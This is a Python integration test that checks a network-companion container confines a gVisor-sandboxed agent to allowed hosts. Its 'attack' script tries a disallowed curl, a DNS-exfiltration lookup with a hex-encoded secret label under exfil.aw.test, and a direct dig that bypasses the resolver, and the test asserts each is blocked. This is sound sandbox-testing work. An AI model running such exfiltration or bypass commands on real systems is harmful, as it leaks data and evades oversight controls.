"""The network companion (container/network-companion.sh) holding a gVisor agent's network. The
kernel sees every socket of a gVisor sandbox as its root's, so a rule that trusted root there
would trust the agent: the companion's trust only their own processes' uid. The agent's
container (runsc, no capability, in the companion's namespace) looks up a name not allowed,
asks the resolver itself, and connects where it may not; the resolver (a peer container that
logs each query) hears only the allowed name, and the companion's report names what it
refused. The names come from the test's own DNS server, never a public resolver."""

from __future__ import annotations

import json
import socket
import time
from typing import Any

from test_firewall import dns_server_for

from agent_worker_app.engines.channel import Demux
from agent_worker_app.engines.docker import companion


def read_until(sock: socket.socket, demux: Demux, mark: bytes, seconds: float) -> bytes:
    """The companion's stdout up to and with mark (its stderr is dropped)."""
    out = b""
    end = time.monotonic() + seconds
    while mark not in out:
        sock.settimeout(max(end - time.monotonic(), 0.01))
        chunk = sock.recv(1 << 16)
        assert chunk, f"the companion ended: {out!r}"
        out += b"".join(data for stream, data in demux.feed(chunk) if stream == 1)
    return out


def test_under_runsc_only_the_companions_own_processes_reach_the_resolver(
    docker_client: Any, command_image: str, peer_image: str, target: str, runsc: str
) -> None:
    api = docker_client.api
    with dns_server_for(docker_client, peer_image, target, "registry.aw.test") as dns:
        resolver = dns.attrs["NetworkSettings"]["IPAddress"]
        made = api.create_container(
            command_image,
            companion.COMMAND,
            user="root",
            stdin_open=True,
            environment={"AW_ALLOW_HOSTS": "registry.aw.test:9", "AW_NET_UID": "15000"},
            labels={"agent-worker-test": "companion"},
            host_config=api.create_host_config(
                cap_drop=["ALL"],
                cap_add=companion.CAPABILITIES,
                security_opt=["no-new-privileges"],
                runtime="runc",
                dns=[resolver],
            ),
        )
        ident = made["Id"]
        held = api.attach_socket(ident, params={"stdin": 1, "stdout": 1, "stderr": 1, "stream": 1})
        sock = held._sock
        demux = Demux()
        try:
            api.start(ident)
            sock.sendall(b"\n")  # no credential
            read_until(sock, demux, b"ready\n", 60)
            attack = f"""
                curl -s --max-time 5 http://registry.aw.test:8080/; echo "curl=$?"
                getent hosts 7365637265742d31.exfil.aw.test; echo "exfil=$?"
                dig +time=2 +tries=1 @{resolver} 7365637265742d32.direct.aw.test; echo "direct=$?"
                dmesg 2>&1 | head -n 1
            """
            output = docker_client.containers.run(
                command_image,
                ["bash", "-c", attack],
                user="agent",
                runtime=runsc,
                network_mode=f"container:{ident}",
                cap_drop=["ALL"],
                security_opt=["no-new-privileges"],
                remove=True,
                stderr=True,
            ).decode()
            sock.sendall(b"report\n")
            line = read_until(sock, demux, b"\n", 10).decode().strip().splitlines()[-1]
        finally:
            sock.close()
            api.remove_container(ident, force=True)
        asked = dns.logs().decode()
    assert "Starting gVisor" in output, output
    assert "curl=7" in output, output  # resolved through the companion, then refused at once
    assert "exfil=2" in output  # refused: no such name
    assert "direct=9" in output  # dig: the resolver could not be reached
    assert "asked registry.aw.test" in asked  # the allowed name, asked by the forwarder
    assert "exfil" not in asked
    assert "direct" not in asked  # under in-container rules that trust root, it would be
    record = json.loads(line.removeprefix("agent-worker-network "))
    found = {(e["address"], e["protocol"], e["port"], tuple(e["names"])) for e in record["blocked"]}
    assert found == {
        (target, "tcp", 8080, ("registry.aw.test",)),
        ("", "dns", 53, ("7365637265742d31.exfil.aw.test",)),
        (resolver, "udp", 53, ()),
    }
    assert record["meter"] is None  # no credential, no gate
